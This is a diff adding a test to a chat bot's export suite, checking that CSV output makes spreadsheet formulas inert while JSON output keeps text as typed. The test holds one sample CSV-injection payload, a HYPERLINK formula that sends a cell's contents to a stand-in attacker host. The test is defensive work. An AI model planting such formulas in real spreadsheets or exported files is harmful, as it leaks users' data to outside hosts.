@@ -64,6 +64,21 @@ describe('export in chat', () => {
     expect(rows[3]).toMatchObject({ state: 'Indonesia', withdrawn: 'yes' });
   });
 
+  it('makes text a spreadsheet would run as a formula inert, in CSV only', () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
+    bot.say(`contacted Chad on 2026-03-04 — ${formula}`, 'ana');
+    bot.say('next Chad -1+1 call again by 2026-03-20', 'ana');
+    const csv = readCsv(bot.say('export since 2026-03-04').attachment!.content).filter((r) => r.state === 'Chad');
+    expect(csv.map((r) => [r.note, r.next_step])).toEqual([
+      [`'${formula}`, ''],
+      ['', "'-1+1 call again"],
+    ]);
+    // Dates and ids are not text a member typed, and stay as they are.
+    expect(csv[0]).toMatchObject({ id: '5', date: '2026-03-04' });
+    const { out } = runCcm(bot, 'export', ['--format', 'json', '--since', '2026-03-04']);
+    expect((JSON.parse(out) as { state: string; note: string }[]).find((r) => r.state === 'Chad')!.note).toBe(formula);
+  });
+
   it('exports from a date on', () => {
     const reply = bot.say('export since 2026-03-01');
     expect(reply.title).toBe('Export of the follow-up log: 3 entries since 1 Mar 2026');
